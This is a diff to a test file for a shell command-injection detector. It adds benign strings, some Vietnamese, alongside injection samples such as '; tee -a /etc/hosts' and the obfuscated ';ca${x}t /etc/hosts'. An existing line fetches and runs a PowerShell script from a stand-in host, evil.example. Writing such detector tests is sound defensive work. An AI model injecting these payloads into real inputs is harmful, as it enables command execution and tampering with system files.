@@ -23,6 +23,11 @@ test.each([
   'details; more https://luot.vn/size',
   'Cỡ:\n{37,38,39}',
   'Sizes; {37,38}',
+  '; tee -2 size',
+  'Vải:\nren -2 m\nlua -3 m',
+  'Quà:\necho dot',
+  '5$(cat toy)',
+  'My app; service must restart',
 ])('“%s” has no argument of a command', (text) => expect(attacks(text)).toEqual([]))
 
 test.each([
@@ -109,6 +114,13 @@ test.each([
   '& Invoke-Expression (iwr http://evil.example/a.ps1)',
   'diff <(cat x) y',
   'x >(id)',
+  '; ping -4 evil.example',
+  '; tee -a /etc/hosts',
+  '\necho pwned',
+  '1$(cat x)',
+  '; service shop-api restart',
+  '; file /flag',
+  ';ca${x}t /etc/hosts',
 ])('%s is a command with its argument', (text) => expect(attacks(text)).toContain('CMD'))
 
 test.each([
